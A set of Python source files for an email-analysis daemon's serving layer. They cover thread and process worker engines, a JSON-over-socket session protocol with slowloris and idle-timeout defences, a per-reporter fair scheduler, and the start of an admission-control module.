        self._stopped_workers: set[int] = set()
        self._stopping = threading.Event()
        #: Crash-loop protection: a worker target that dies on arrival
        #: backs off exponentially and eventually trips on_fatal instead
        #: of spinning the reap/respawn loop forever.
        self._governor = RespawnGovernor()
        self._pool = acquire_pool(
            _worker_main, config, jobs, name_prefix="repro-serve-worker"
        )
        self._ready: set[int] = set(self._pool.ready)
        self._loop = threading.Thread(
            target=self._event_loop, name="repro-serve-engine", daemon=True
        )
        self._loop.start()

    # ------------------------------------------------------------------
    def submit(self, jobs: list[ServeJob]) -> None:
        with self._lock:
            self._pending.extend(jobs)
            for job in jobs:
                self._jobs[job.index] = job
            self._dispatch_idle_locked()

    def _dispatch_idle_locked(self) -> None:
        for worker_id in sorted(self._ready):
            if not self._pending:
                return
            batch = self._pending[: self.batch_size]
            del self._pending[: len(batch)]
            self._ready.discard(worker_id)
            self._inflight[worker_id] = {job.index for job in batch}
            self._pool.send(
                worker_id, ("eml-batch", [(job.index, job.eml_bytes) for job in batch])
            )

    # ------------------------------------------------------------------
    def _event_loop(self) -> None:
        while not self._stopping.is_set():
            message = self._pool.get()
            kind, worker_id = message[0], message[1]
            if kind in ("ready", "batch-done"):
                with self._lock:
                    if worker_id in self._pool.workers:
                        self._pool.note_ready(worker_id)
                        self._ready.add(worker_id)
                    self._dispatch_idle_locked()
            elif kind == "frame":
                self._governor.note_progress()
                self._handle_frame(worker_id, message[2], message[3])
            elif kind == "fail":
                index, error = message[2], message[3]
                job = self._finish(worker_id, index)
                if job is not None:
                    self.on_result(job, None, error)
            elif kind == "worker-died":
                self._reap(worker_id)
            elif kind == "stopped":
                self._stopped_workers.add(worker_id)
            elif kind == "init-failed":
                self.on_fatal(
                    f"serve worker {worker_id} failed to initialize: {message[2]}"
                )
            # "wake" / "stall-tick" / stale "synced": no-op wakeups

    def _handle_frame(self, worker_id: int, blob: bytes, shard) -> None:
        entries = unpack_frame(blob)
        delivered: list[tuple[ServeJob, bytes]] = []
        for index, wire in entries:
            job = self._finish(worker_id, index)
            if job is not None:
                delivered.append((job, wire))
        if self.on_stats is not None and delivered:
            if len(delivered) == len(entries):
                self.on_stats(shard)
            else:
                # Rare: an entry raced a crash-retry duplicate; recount
                # just the delivered records instead of the whole shard.
                recount = RunningStats()
                for _job, wire in delivered:
                    recount.update(WireRecord(wire).record)
                self.on_stats(recount)
        for job, wire in delivered:
            self.on_result(job, WireRecord(wire), None)

    def _finish(self, worker_id: int, index: int) -> ServeJob | None:
        with self._lock:
            self._inflight.get(worker_id, set()).discard(index)
            return self._jobs.pop(index, None)

    def _reap(self, worker_id: int) -> None:
        """A worker sentinel fired: charge its in-flight submissions."""
        with self._lock:
            if (
                worker_id in self._stopped_workers
                or worker_id not in self._pool.workers
            ):
                return  # deliberate stop, already handled
            process = self._pool.discard(worker_id)
            lost = sorted(self._inflight.pop(worker_id, set()))
            self._ready.discard(worker_id)
        exitcode = process.exitcode if process is not None else None
        self._governor.note_crash(exitcode)
        budget_exhausted = False
        if not self._stopping.is_set():
            delay = self._governor.permit()
            if delay is None:
                budget_exhausted = True
            else:
                if delay:
                    time.sleep(delay)
                with self._lock:
                    self._pool.spawn()
                    self._dispatch_idle_locked()
        crash = WorkerCrash(
            f"serve worker died (exit code {exitcode}) "
            f"with {len(lost)} submission(s) in flight"
        )
        for index in lost:
            with self._lock:
                job = self._jobs.pop(index, None)
            if job is not None:
                self.on_result(job, None, crash)
        if budget_exhausted:
            self.on_fatal(self._governor.diagnosis())

    # ------------------------------------------------------------------
    def stop(self) -> None:
        self._stopping.set()
        self._pool.wake()
        self._loop.join(timeout=_STOP_GRACE)
        # Park the pool warm (same config ⇒ the next daemon or batch run
        # skips the per-worker world rebuild); ineligible configs tear
        # down gracefully inside release_pool.
        release_pool(self._pool)


def build_engine(
    executor: str,
    jobs: int,
    on_result: OnResult,
    box_factory: Callable[[int], object] | None = None,
    config: RunnerConfig | None = None,
    batch_size: int = 8,
    on_fatal: Callable[[str], None] | None = None,
    on_stats: OnStats | None = None,
):
    """Resolve ``auto|thread|process`` into a live engine.

    ``auto`` mirrors the batch runner: process when the run is parallel
    and a picklable config exists, else threads.
    """
    if executor == "auto":
        executor = "process" if (jobs > 1 and config is not None) else "thread"
    if executor == "thread":
        if box_factory is None:
            raise ValueError("the thread engine needs a box_factory")
        return ThreadEngine(box_factory, jobs, on_result)
    if executor == "process":
        if config is None:
            raise ValueError("the process engine needs a picklable RunnerConfig")
        return ProcessEngine(
            config,
            jobs,
            on_result,
            batch_size=batch_size,
            on_fatal=on_fatal,
            on_stats=on_stats,
        )
    raise ValueError(f"unknown executor {executor!r}")
