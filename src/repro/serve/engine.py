"""Persistent analysis engines: the runner's workers, fed forever.

The batch :class:`~repro.runner.runner.CorpusRunner` takes a complete
message list, runs it to exhaustion, and tears its pool down.  A daemon
needs the same two backends — GIL-bound threads and fork-based
processes — but *persistent*: built once at startup, fed micro-batches
for as long as the daemon lives, and drained on shutdown.

Both engines reuse the existing machinery rather than duplicating it:

- :class:`ThreadEngine` is the runner's :class:`~repro.runner.queue.
  JobQueue` + :func:`~repro.runner.workers.spawn_workers` combination,
  with each worker holding a private CrawlerBox over the shared world.
- :class:`ProcessEngine` drives the same ``_worker_main`` loop as the
  batch :class:`~repro.runner.executor.ProcessPool`, using its
  service-mode ``eml-batch`` command: raw RFC-822 bytes ship to the
  worker, which ingests and analyzes them against the world it rebuilt
  from the picklable :class:`~repro.runner.executor.RunnerConfig`.

Engines are deliberately policy-free: they report each attempt's
outcome (a :class:`~repro.core.artifacts.MessageRecord` or the raised
exception) through one callback, and the daemon owns retries,
checkpointing, stats, and responses.  A worker-process death surfaces
as a :class:`~repro.runner.executor.WorkerCrash` per in-flight
submission — the same transient the batch pool reports — and a
replacement worker is spawned.
"""

from __future__ import annotations

import multiprocessing
import queue as stdlib_queue
import threading
import time
from dataclasses import dataclass, field
from typing import Callable

from repro.core.artifacts import MessageRecord
from repro.runner.executor import RunnerConfig, WorkerCrash, _worker_main
from repro.runner.queue import Job, JobQueue, QueueClosed
from repro.runner.workers import spawn_workers

#: Seconds between liveness polls of the process workers.
_POLL_INTERVAL = 0.25

#: Seconds to wait for workers to acknowledge a stop before terminating.
_STOP_GRACE = 5.0


@dataclass
class ServeJob:
    """One admitted submission travelling through an engine."""

    #: The admission index — the daemon-wide message index this record
    #: is seeded from (and checkpointed under).
    index: int
    reporter: str
    #: Client-chosen correlation token, echoed on every response.
    client_id: str
    #: The raw RFC-822 submission (what process workers ingest).
    eml_bytes: bytes
    #: Parent-side parse of the same bytes (what thread workers analyze).
    message: object = None
    #: The session to stream the verdict back to (None once it closed).
    session: object = None
    #: Wall clock at admission, for latency stats only — never records.
    submitted_at: float = 0.0
    attempts: int = 0
    error_history: list = field(default_factory=list)


#: on_result(job, record, error): exactly one of record/error is None.
OnResult = Callable[[ServeJob, MessageRecord | None, BaseException | None], None]


class ThreadEngine:
    """N persistent worker threads over the runner's JobQueue."""

    name = "thread"

    def __init__(self, box_factory: Callable[[int], object], jobs: int, on_result: OnResult):
        self.on_result = on_result
        self._queue = JobQueue()  # unbounded: admission already gates intake
        self._workers = spawn_workers(jobs, self._queue, box_factory, self._handle)

    def submit(self, jobs: list[ServeJob]) -> None:
        for job in jobs:
            self._queue.put(Job(index=job.index, payload=job))

    def _handle(self, worker, queue_job: Job) -> None:
        job: ServeJob = queue_job.payload
        try:
            record = worker.box.analyze(job.message, message_index=job.index)
        except BaseException as error:  # noqa: BLE001 - the daemon owns retry policy
            self.on_result(job, None, error)
        else:
            self.on_result(job, record, None)

    def stop(self) -> None:
        try:
            self._queue.close()
        except QueueClosed:
            pass
        for worker in self._workers:
            worker.join(timeout=_STOP_GRACE)


class ProcessEngine:
    """N persistent worker processes speaking ``eml-batch``."""

    name = "process"

    def __init__(
        self,
        config: RunnerConfig,
        jobs: int,
        on_result: OnResult,
        batch_size: int = 8,
        on_fatal: Callable[[str], None] | None = None,
    ):
        self.config = config
        self.jobs = jobs
        self.on_result = on_result
        self.batch_size = max(1, batch_size)
        self.on_fatal = on_fatal or (lambda reason: None)
        self._context = multiprocessing.get_context(
            "fork" if "fork" in multiprocessing.get_all_start_methods() else None
        )
        self._outq = self._context.Queue()
        self._lock = threading.Lock()
        self._workers: dict[int, object] = {}
        self._inqs: dict[int, object] = {}
        self._inflight: dict[int, set[int]] = {}
        self._ready: set[int] = set()
        self._stopped_workers: set[int] = set()
        self._jobs: dict[int, ServeJob] = {}
        self._pending: list[ServeJob] = []
        self._next_worker_id = 0
        self._stopping = threading.Event()
        for _ in range(jobs):
            self._spawn_worker()
        self._loop = threading.Thread(
            target=self._event_loop, name="repro-serve-engine", daemon=True
        )
        self._loop.start()

    # ------------------------------------------------------------------
    def submit(self, jobs: list[ServeJob]) -> None:
        with self._lock:
            self._pending.extend(jobs)
            for job in jobs:
                self._jobs[job.index] = job
            self._dispatch_idle_locked()

    def _spawn_worker(self) -> None:
        worker_id = self._next_worker_id
        self._next_worker_id += 1
        inq = self._context.Queue()
        process = self._context.Process(
            target=_worker_main,
            args=(worker_id, self.config, inq, self._outq),
            name=f"repro-serve-worker-{worker_id}",
            daemon=True,
        )
        process.start()
        self._workers[worker_id] = process
        self._inqs[worker_id] = inq
        self._inflight[worker_id] = set()

    def _dispatch_idle_locked(self) -> None:
        for worker_id in sorted(self._ready):
            if not self._pending:
                return
            batch = self._pending[: self.batch_size]
            del self._pending[: len(batch)]
            self._ready.discard(worker_id)
            self._inflight[worker_id] = {job.index for job in batch}
            self._inqs[worker_id].put(
                ("eml-batch", [(job.index, job.eml_bytes) for job in batch])
            )

    # ------------------------------------------------------------------
    def _event_loop(self) -> None:
        from repro.core.export import record_from_dict

        while not self._stopping.is_set():
            try:
                message = self._outq.get(timeout=_POLL_INTERVAL)
            except stdlib_queue.Empty:
                self._reap_crashed()
                continue
            kind, worker_id = message[0], message[1]
            if kind in ("ready", "batch-done"):
                with self._lock:
                    self._ready.add(worker_id)
                    self._dispatch_idle_locked()
            elif kind == "ok":
                index, payload = message[2], message[3]
                job = self._finish(worker_id, index)
                if job is not None:
                    self.on_result(job, record_from_dict(payload), None)
            elif kind == "fail":
                index, error = message[2], message[3]
                job = self._finish(worker_id, index)
                if job is not None:
                    self.on_result(job, None, error)
            elif kind == "stopped":
                self._stopped_workers.add(worker_id)
            elif kind == "init-failed":
                self.on_fatal(f"serve worker {worker_id} failed to initialize: {message[2]}")

    def _finish(self, worker_id: int, index: int) -> ServeJob | None:
        with self._lock:
            self._inflight.get(worker_id, set()).discard(index)
            return self._jobs.pop(index, None)

    def _reap_crashed(self) -> None:
        crashed: list[tuple[int, object, set[int]]] = []
        with self._lock:
            for worker_id, process in list(self._workers.items()):
                if process.is_alive() or worker_id in self._stopped_workers:
                    continue
                lost = self._inflight.pop(worker_id, set())
                del self._workers[worker_id]
                self._inqs.pop(worker_id, None)
                self._ready.discard(worker_id)
                crashed.append((worker_id, process, lost))
            if crashed and not self._stopping.is_set():
                for _ in crashed:
                    self._spawn_worker()
                self._dispatch_idle_locked()
        for worker_id, process, lost in crashed:
            crash = WorkerCrash(
                f"serve worker died (exit code {process.exitcode}) "
                f"with {len(lost)} submission(s) in flight"
            )
            for index in sorted(lost):
                with self._lock:
                    job = self._jobs.pop(index, None)
                if job is not None:
                    self.on_result(job, None, crash)

    # ------------------------------------------------------------------
    def stop(self) -> None:
        self._stopping.set()
        self._loop.join(timeout=_STOP_GRACE)
        for inq in self._inqs.values():
            try:
                inq.put(("stop",))
            except Exception:
                pass
        deadline = time.monotonic() + _STOP_GRACE
        for process in self._workers.values():
            process.join(timeout=max(0.0, deadline - time.monotonic()))
            if process.is_alive():
                process.terminate()
                process.join(timeout=_STOP_GRACE)
        self._outq.cancel_join_thread()
        for inq in self._inqs.values():
            inq.cancel_join_thread()


def build_engine(
    executor: str,
    jobs: int,
    on_result: OnResult,
    box_factory: Callable[[int], object] | None = None,
    config: RunnerConfig | None = None,
    batch_size: int = 8,
    on_fatal: Callable[[str], None] | None = None,
):
    """Resolve ``auto|thread|process`` into a live engine.

    ``auto`` mirrors the batch runner: process when the run is parallel
    and a picklable config exists, else threads.
    """
    if executor == "auto":
        executor = "process" if (jobs > 1 and config is not None) else "thread"
    if executor == "thread":
        if box_factory is None:
            raise ValueError("the thread engine needs a box_factory")
        return ThreadEngine(box_factory, jobs, on_result)
    if executor == "process":
        if config is None:
            raise ValueError("the process engine needs a picklable RunnerConfig")
        return ProcessEngine(
            config, jobs, on_result, batch_size=batch_size, on_fatal=on_fatal
        )
    raise ValueError(f"unknown executor {executor!r}")
