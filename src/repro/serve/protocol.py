"""The ingestion session protocol: line-delimited JSON over a socket.

One connection carries one *session*.  The client writes one compact
JSON object per line; the daemon answers on the same connection — an
immediate admission response per submission, then an asynchronous
verdict line once the analysis completes.  Framing is a plain ``\\n``:
``json.dumps`` escapes control characters, so a newline can never occur
inside a payload.

Client -> server ops::

    {"op": "submit", "reporter": "acme", "id": "c-17", "eml": "<base64>"}
    {"op": "stats"}                  # same payload as GET /stats
    {"op": "ping"}                   # liveness probe -> pong
    {"op": "bye"}                    # flush my pending verdicts, close

Server -> client ops::

    {"op": "accepted",   "id": "c-17", "message_index": 412}
    {"op": "verdict",    "id": "c-17", "message_index": 412, "record": {...}}
    {"op": "overloaded", "id": "c-17", "reason": "...", "retry_after_submissions": 3}
    {"op": "rejected",   "id": "c-17", "reason": "..."}
    {"op": "failed",     "id": "c-17", "message_index": 412, "error": "..."}
    {"op": "pong" | "stats" | "goodbye" | "error", ...}

Every refusal is explicit and machine-readable: a submission is either
``accepted`` (a verdict **will** follow — it is durable before the
daemon exits), ``overloaded`` (admission shed; the client owns the
retry), or ``rejected`` (the bytes can never be analyzed — malformed
RFC-822, oversized line, draining daemon).  There are no silent drops
and no dead letters.

The same listening port also answers plain HTTP ``GET /stats`` and
``GET /healthz`` (the first bytes of a session disambiguate), so stock
monitoring can scrape the daemon without speaking the session protocol.
"""

from __future__ import annotations

import json

#: Hard cap on one protocol line (a submission carries a whole base64
#: message, so this bounds daemon memory per connection the same way
#: GuardLimits bounds decoded structure).  32 MiB comfortably fits the
#: guard's default 16 MiB total-decoded cap after base64 expansion.
MAX_LINE_BYTES = 32 << 20

#: Methods whose first socket bytes flag an HTTP probe, not a session.
_HTTP_PREFIXES = (b"GET ", b"HEAD ")


class ProtocolError(ValueError):
    """One malformed protocol line (bad JSON, missing op, oversized)."""


def encode_line(payload: dict) -> bytes:
    """One protocol message -> its compact single-line wire form."""
    return json.dumps(payload, separators=(",", ":"), sort_keys=True).encode("utf-8") + b"\n"


def encode_verdict_line(client_id: str, message_index: int, record_payload: str) -> bytes:
    """A verdict response spliced around an already-serialized record.

    ``record_payload`` is the compact JSON document the worker rendered
    for the checkpoint (:func:`repro.core.export.record_to_line` form,
    CRC suffix stripped).  The daemon's hot path splices those bytes
    into the response instead of parsing and re-serializing the record;
    the envelope keys are emitted pre-sorted so the result matches what
    :func:`encode_line` would produce around the same document.
    """
    head = json.dumps(
        {"id": client_id, "message_index": message_index, "op": "verdict"},
        separators=(",", ":"),
        sort_keys=True,
    )
    return head[:-1].encode("utf-8") + b',"record":' + record_payload.encode("utf-8") + b"}\n"


def decode_line(line: bytes) -> dict:
    """One wire line -> the message dict (:class:`ProtocolError` on junk)."""
    try:
        payload = json.loads(line.decode("utf-8"))
    except (UnicodeDecodeError, json.JSONDecodeError) as error:
        raise ProtocolError(f"undecodable protocol line: {error}") from error
    if not isinstance(payload, dict) or not isinstance(payload.get("op"), str):
        raise ProtocolError("protocol message must be a JSON object with a string 'op'")
    return payload


def read_line(stream, limit: int = MAX_LINE_BYTES) -> bytes | None:
    """Read one bounded line from a socket file object.

    Returns the line without its newline, ``None`` at EOF, and raises
    :class:`ProtocolError` when the line exceeds ``limit`` — the caller
    answers with a machine-readable rejection and closes, rather than
    buffering an attacker-sized line.
    """
    line = stream.readline(limit + 1)
    if not line:
        return None
    if len(line) > limit:
        raise ProtocolError(f"line exceeds {limit} bytes")
    return line.rstrip(b"\n")


def looks_like_http(first_line: bytes) -> bool:
    """True when a session's first line is an HTTP request line."""
    return first_line.startswith(_HTTP_PREFIXES)


def http_response(status: int, payload: dict) -> bytes:
    """A minimal one-shot HTTP/1.0 JSON response (connection closes)."""
    reasons = {200: "OK", 404: "Not Found", 503: "Service Unavailable"}
    body = json.dumps(payload, indent=2, sort_keys=True).encode("utf-8") + b"\n"
    head = (
        f"HTTP/1.0 {status} {reasons.get(status, 'Unknown')}\r\n"
        f"Content-Type: application/json\r\n"
        f"Content-Length: {len(body)}\r\n"
        f"Connection: close\r\n\r\n"
    ).encode("ascii")
    return head + body
