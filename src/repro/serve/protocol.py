"""The ingestion session protocol: line-delimited JSON over a socket.

One connection carries one *session*.  The client writes one compact
JSON object per line; the daemon answers on the same connection — an
immediate admission response per submission, then an asynchronous
verdict line once the analysis completes.  Framing is a plain ``\\n``:
``json.dumps`` escapes control characters, so a newline can never occur
inside a payload.

Client -> server ops::

    {"op": "submit", "reporter": "acme", "id": "c-17", "eml": "<base64>"}
    {"op": "stats"}                  # same payload as GET /stats
    {"op": "ping"}                   # liveness probe -> pong
    {"op": "bye"}                    # flush my pending verdicts, close

Server -> client ops::

    {"op": "accepted",   "id": "c-17", "message_index": 412}
    {"op": "verdict",    "id": "c-17", "message_index": 412, "record": {...}}
    {"op": "overloaded", "id": "c-17", "reason": "...", "retry_after_submissions": 3}
    {"op": "rejected",   "id": "c-17", "reason": "..."}
    {"op": "failed",     "id": "c-17", "message_index": 412, "error": "..."}
    {"op": "busy",       "reason": "session-limit", ...}   # connection refused
    {"op": "pong" | "stats" | "goodbye" | "error", ...}

Every refusal is explicit and machine-readable: a submission is either
``accepted`` (a verdict **will** follow — it is durable before the
daemon exits), ``overloaded`` (admission shed; the client owns the
retry), or ``rejected`` (the bytes can never be analyzed — malformed
RFC-822, oversized line, draining daemon).  A connection over the
daemon's session cap is answered with a ``busy`` line and closed before
a session ever starts.  There are no silent drops and no dead letters.

The same listening port also answers plain HTTP ``GET /stats`` and
``GET /healthz`` (the first bytes of a session disambiguate), so stock
monitoring can scrape the daemon without speaking the session protocol.
Any other HTTP method gets a proper ``405 Method Not Allowed`` instead
of falling through into the session parser.

The server side never trusts a client to finish what it started:
:class:`LineChannel` reads lines off a non-blocking socket under two
deadlines — a *line deadline* (wall clock to complete one line once its
first byte arrived, which defeats slowloris byte-trickling) and an
*idle timeout* (quiet seconds between lines, which defeats connection
camping; deferrable while verdicts are still owed to the peer) — and
:func:`send_bounded` writes responses under a send deadline so a peer
that stops reading cannot pin a daemon thread.
"""

from __future__ import annotations

import json
import select
import time

#: Hard cap on one protocol line (a submission carries a whole base64
#: message, so this bounds daemon memory per connection the same way
#: GuardLimits bounds decoded structure).  32 MiB comfortably fits the
#: guard's default 16 MiB total-decoded cap after base64 expansion.
MAX_LINE_BYTES = 32 << 20

#: HTTP methods whose first socket bytes flag an HTTP request, not a
#: session.  Only GET and HEAD are *served*; the rest are answered with
#: 405 rather than confusing JSON protocol errors.
_HTTP_METHODS = (
    "GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "PATCH", "TRACE", "CONNECT",
)
_HTTP_PREFIXES = tuple(f"{method} ".encode("ascii") for method in _HTTP_METHODS)

#: The methods the monitoring endpoints actually answer.
HTTP_ALLOWED_METHODS = ("GET", "HEAD")

#: recv/select slice while waiting on a socket (seconds).  Small enough
#: that a drain or a deadline is noticed promptly, large enough that an
#: idle session costs ~4 wakeups a second.
_POLL_SLICE = 0.25


class ProtocolError(ValueError):
    """One malformed protocol line (bad JSON, missing op, oversized)."""


class LineTooLong(ProtocolError):
    """A line exceeded the per-line byte limit."""


class ReadDeadlineExceeded(ProtocolError):
    """A started line was not completed within the line deadline
    (the slowloris shape: bytes trickling in forever)."""


class IdleTimeout(ProtocolError):
    """No bytes at all arrived within the idle window between lines
    (the camping shape: a connection held open doing nothing)."""


def encode_line(payload: dict) -> bytes:
    """One protocol message -> its compact single-line wire form."""
    return json.dumps(payload, separators=(",", ":"), sort_keys=True).encode("utf-8") + b"\n"


def encode_verdict_line(client_id: str, message_index: int, record_payload: str) -> bytes:
    """A verdict response spliced around an already-serialized record.

    ``record_payload`` is the compact JSON document the worker rendered
    for the checkpoint (:func:`repro.core.export.record_to_line` form,
    CRC suffix stripped).  The daemon's hot path splices those bytes
    into the response instead of parsing and re-serializing the record;
    the envelope keys are emitted pre-sorted so the result matches what
    :func:`encode_line` would produce around the same document.
    """
    head = json.dumps(
        {"id": client_id, "message_index": message_index, "op": "verdict"},
        separators=(",", ":"),
        sort_keys=True,
    )
    return head[:-1].encode("utf-8") + b',"record":' + record_payload.encode("utf-8") + b"}\n"


def decode_line(line: bytes) -> dict:
    """One wire line -> the message dict (:class:`ProtocolError` on junk).

    ``RecursionError`` is caught alongside decode errors: a deeply
    nested JSON bomb must yield a machine-readable protocol error, not
    an unwinding daemon thread.
    """
    try:
        payload = json.loads(line.decode("utf-8"))
    except (UnicodeDecodeError, json.JSONDecodeError, RecursionError) as error:
        raise ProtocolError(f"undecodable protocol line: {error!r:.120}") from None
    if not isinstance(payload, dict) or not isinstance(payload.get("op"), str):
        raise ProtocolError("protocol message must be a JSON object with a string 'op'")
    return payload


def read_line(stream, limit: int = MAX_LINE_BYTES) -> bytes | None:
    """Read one bounded line from a socket file object (client side).

    Returns the line without its newline, ``None`` at EOF, and raises
    :class:`ProtocolError` when the line exceeds ``limit`` — the caller
    answers with a machine-readable rejection and closes, rather than
    buffering an attacker-sized line.
    """
    line = stream.readline(limit + 1)
    if not line:
        return None
    if len(line) > limit:
        raise LineTooLong(f"line exceeds {limit} bytes")
    return line.rstrip(b"\n")


class LineChannel:
    """Deadline-aware bounded line reader over a non-blocking socket.

    The server-side replacement for ``makefile("rb").readline()``, which
    trusts the peer completely: a blocking readline has no deadline, so
    one slowloris client trickling a byte a minute — or one camper
    sending nothing at all — pins a daemon thread forever.  The channel
    owns its buffer, polls the socket in short slices, and enforces:

    - ``limit`` — the existing per-line byte cap (:class:`LineTooLong`);
    - ``line_deadline`` — wall-clock budget to *finish* a line once its
      first byte arrived (:class:`ReadDeadlineExceeded`);
    - ``idle_timeout`` — quiet seconds allowed between lines
      (:class:`IdleTimeout`); the ``defer_idle`` callback lets the
      caller park the clock while it still owes the peer verdicts, so a
      well-behaved reporter silently awaiting results is never reaped —
      that is what makes the reaper *progress-based*.

    EOF with an unterminated line in the buffer (a mid-line disconnect)
    returns ``None`` like a clean EOF; :attr:`pending` tells the caller
    how many orphaned bytes the peer abandoned.
    """

    def __init__(self, conn, limit: int = MAX_LINE_BYTES, poll_slice: float = _POLL_SLICE):
        conn.setblocking(False)
        self.conn = conn
        self.limit = limit
        self.poll_slice = poll_slice
        self._buffer = bytearray()
        self._eof = False

    @property
    def pending(self) -> int:
        """Unterminated bytes left in the buffer (mid-line disconnect)."""
        return len(self._buffer)

    def read_line(
        self,
        line_deadline: float | None = None,
        idle_timeout: float | None = None,
        defer_idle=None,
    ) -> bytes | None:
        started = time.monotonic() if self._buffer else None
        idle_since = time.monotonic()
        while True:
            newline = self._buffer.find(b"\n")
            if newline != -1:
                if newline > self.limit:
                    raise LineTooLong(f"line exceeds {self.limit} bytes")
                line = bytes(self._buffer[:newline])
                del self._buffer[: newline + 1]
                return line.rstrip(b"\r")
            if len(self._buffer) > self.limit:
                raise LineTooLong(f"line exceeds {self.limit} bytes")
            if self._eof:
                return None
            now = time.monotonic()
            if self._buffer:
                if line_deadline is not None and started is not None:
                    if now - started >= line_deadline:
                        raise ReadDeadlineExceeded(
                            f"line not completed within {line_deadline:g}s"
                        )
            elif idle_timeout is not None and now - idle_since >= idle_timeout:
                if defer_idle is not None and defer_idle():
                    idle_since = now  # verdicts still owed: not idle
                else:
                    raise IdleTimeout(f"no submission within {idle_timeout:g}s")
            try:
                readable, _, _ = select.select([self.conn], [], [], self.poll_slice)
            except (OSError, ValueError):
                return None  # socket closed under us (drain / dead peer)
            if not readable:
                continue
            try:
                chunk = self.conn.recv(65536)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                return None
            if not chunk:
                self._eof = True
                continue
            if not self._buffer:
                started = time.monotonic()
            self._buffer += chunk


def send_bounded(conn, data: bytes, timeout: float, poll_slice: float = _POLL_SLICE) -> bool:
    """Write ``data`` with a wall-clock deadline; True when fully sent.

    Switches the socket to non-blocking mode (daemon-side sockets
    already are, via :class:`LineChannel`): a blocking ``send()`` can
    ignore the deadline entirely — Linux queues a whole AF_UNIX stream
    send before returning, writability notwithstanding.  Returns False
    — never raises — when the peer is dead, the socket is closed, or
    the deadline expires with bytes still unsent: the caller treats all
    three as a dead peer and abandons only the socket write.
    """
    try:
        conn.setblocking(False)
    except OSError:
        return False
    deadline = time.monotonic() + max(0.0, timeout)
    view = memoryview(data)
    while view:
        remaining = deadline - time.monotonic()
        if remaining <= 0:
            return False
        try:
            _, writable, _ = select.select([], [conn], [], min(poll_slice, remaining))
        except (OSError, ValueError):
            return False
        if not writable:
            continue
        try:
            sent = conn.send(view)
        except (BlockingIOError, InterruptedError):
            continue
        except OSError:
            return False
        view = view[sent:]
    return True


def looks_like_http(first_line: bytes) -> bool:
    """True when a session's first line is an HTTP request line."""
    return first_line.startswith(_HTTP_PREFIXES)


def http_request_parts(request_line: bytes) -> tuple[str, str]:
    """``(method, path)`` of an HTTP request line (query string dropped)."""
    parts = request_line.split()
    method = parts[0].decode("ascii", "replace") if parts else "?"
    path = parts[1].decode("ascii", "replace") if len(parts) > 1 else "/"
    return method, path.split("?", 1)[0]


def http_response(status: int, payload: dict, headers: dict | None = None) -> bytes:
    """A minimal one-shot HTTP/1.0 JSON response (connection closes)."""
    reasons = {
        200: "OK",
        404: "Not Found",
        405: "Method Not Allowed",
        503: "Service Unavailable",
    }
    body = json.dumps(payload, indent=2, sort_keys=True).encode("utf-8") + b"\n"
    extra = "".join(f"{name}: {value}\r\n" for name, value in (headers or {}).items())
    head = (
        f"HTTP/1.0 {status} {reasons.get(status, 'Unknown')}\r\n"
        f"Content-Type: application/json\r\n"
        f"Content-Length: {len(body)}\r\n"
        f"{extra}"
        f"Connection: close\r\n\r\n"
    ).encode("ascii")
    return head + body
