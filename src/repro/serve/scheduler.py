"""Per-reporter fair queues, drained round-robin into micro-batches.

The paper's reporting stream is multi-tenant — five companies feeding
one CrawlerBox — and enterprise phishing arrives in bursts: one tenant
flooding thousands of reports must not starve the quiet four.  The
scheduler keeps one FIFO per reporter and fills each micro-batch by
cycling the *active* reporters (those with queued work), taking one
submission per reporter per cycle.  A batch of size B drawn while R
reporters are active therefore contains at least ``min(B // R, q)``
submissions from every reporter with ``q`` queued — a flooding
reporter's backlog only consumes the slots nobody else wants.

Scheduling order deliberately does **not** affect record bytes: every
record depends only on (seed material, admission index), so fairness
is free to optimize latency without touching the determinism contract.
"""

from __future__ import annotations

import threading
from collections import deque


class FairScheduler:
    """Round-robin fair queueing over per-reporter FIFOs."""

    def __init__(self):
        self._lock = threading.Lock()
        self._not_empty = threading.Condition(self._lock)
        self._queues: dict[str, deque] = {}
        #: Rotation of reporters that currently have queued work.
        self._active: deque[str] = deque()
        self._closed = False

    # ------------------------------------------------------------------
    def __len__(self) -> int:
        with self._lock:
            return sum(len(queue) for queue in self._queues.values())

    def depths(self) -> dict[str, int]:
        """Queued submissions per reporter (for ``/stats``)."""
        with self._lock:
            return {
                reporter: len(queue)
                for reporter, queue in sorted(self._queues.items())
                if queue
            }

    @property
    def closed(self) -> bool:
        return self._closed

    # ------------------------------------------------------------------
    def push(self, reporter: str, item: object) -> None:
        """Enqueue one admitted submission for ``reporter``."""
        with self._lock:
            if self._closed:
                raise RuntimeError("scheduler is closed")
            queue = self._queues.get(reporter)
            if queue is None:
                queue = self._queues[reporter] = deque()
            if not queue:
                self._active.append(reporter)
            queue.append(item)
            self._not_empty.notify()

    def next_batch(self, max_size: int, timeout: float | None = None) -> list:
        """Up to ``max_size`` submissions, one per active reporter per
        round-robin cycle.

        Blocks until work arrives, the timeout passes (-> ``[]``), or
        the scheduler closes with nothing queued (-> ``[]`` forever
        after).  After close, queued work keeps draining — a drain must
        flush every accepted submission.
        """
        with self._not_empty:
            while not self._active:
                if self._closed:
                    return []
                if not self._not_empty.wait(timeout):
                    return []
            batch: list = []
            while self._active and len(batch) < max_size:
                reporter = self._active.popleft()
                queue = self._queues[reporter]
                batch.append(queue.popleft())
                if queue:
                    self._active.append(reporter)
            return batch

    # ------------------------------------------------------------------
    def close(self) -> None:
        """Stop accepting pushes; queued work remains drainable."""
        with self._lock:
            self._closed = True
            self._not_empty.notify_all()
