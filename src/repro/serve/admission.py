"""Deterministic admission control: load-shedding on a logical clock.

The daemon must shed under overload with an explicit ``overloaded``
response — never a silent drop — *and* the PR-5 determinism invariant
must survive: replaying the same submission transcript after a restart
has to shed exactly the same submissions.  Wall-clock-based shedding
(queue depth, completion rate) breaks that: a faster machine sheds
less.  So admission here runs on a **logical clock** — the global
arrival sequence number — and the shed set is a pure function of
``(arrival order, budget configuration)``:

- Each submission is one *tick*.  Token buckets (one global, one per
  reporter) refill ``rate`` work units per tick up to ``burst`` and are
  charged ``cost`` work units per admitted message.
- ``cost`` is the per-message work budget from PR 5 (the pipeline's
  ``budget_work_units``): an admitted message may consume at most that
  much analysis work, so the bucket rates literally bound admitted
  *work per arrival*, not just message counts.
- All state is integer arithmetic, so a snapshot (persisted in the
  daemon manifest at drain) restores bit-exactly on restart.

What this deliberately does **not** do is adapt to machine speed: if
the hardware falls behind the configured admission rate, the daemon
applies *backpressure* (it stops reading from submitter sockets once
the accepted backlog crosses a high-water mark — see
